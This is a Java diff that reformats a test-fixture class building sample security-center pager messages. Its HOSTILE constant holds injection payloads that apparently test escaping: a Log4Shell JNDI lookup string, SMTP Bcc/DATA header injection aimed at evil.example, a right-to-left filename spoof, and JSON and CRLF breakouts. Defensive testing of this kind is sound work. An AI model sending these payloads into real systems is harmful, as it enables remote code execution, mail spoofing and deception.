@@ -17,8 +17,10 @@ public final class Messages {
     private static final String CENTER = "https://soc.example";
 
     /** Everything that some receiver reads as more than a text. */
-    public static final String HOSTILE = "<!channel> @channel @here <b>x</b> [click](http://evil.example) *bold* `code` </string>\r\nBcc: eve@evil.example"
-            + "\r\n\r\nDATA\r\n.\r\n\u202Egnp.exe \u0000 {number} \"}],\"text\":\"x ${jndi:ldap://evil} %0d%0a & ]]> \uD83D\uDE80";
+    public static final String HOSTILE =
+            "<!channel> @channel @here <b>x</b> [click](http://evil.example) *bold* `code` </string>"
+                    + "\r\nBcc: eve@evil.example\r\n\r\nDATA\r\n.\r\n\u202Egnp.exe \u0000 {number} \"}],\"text\":\"x"
+                    + " ${jndi:ldap://evil} %0d%0a & ]]> \uD83D\uDE80";
 
     private Messages() {}
 
@@ -66,12 +68,12 @@ public final class Messages {
         String text = kind == Message.Kind.CODE
                 ? "Type 481 516 at the center to prove that this contact is yours."
                 : "Nobody has acknowledged this within 5 minutes, and you are on call until 08:00 (nights).";
-        return new Message(
-                "page-7/ann/" + kind, kind, to, subject, text, cases, CENTER + "/", AT, null);
+        return new Message("page-7/ann/" + kind, kind, to, subject, text, cases, CENTER + "/", AT, null);
     }
 
     private static Message.About credentials() {
-        return kase(42, "Credentials dumped", Level.CRITICAL, List.of("dc01.corp.example", "ws07"), List.of("T1003.001"));
+        return kase(
+                42, "Credentials dumped", Level.CRITICAL, List.of("dc01.corp.example", "ws07"), List.of("T1003.001"));
     }
 
     private static List<Message.About> some(int count) {
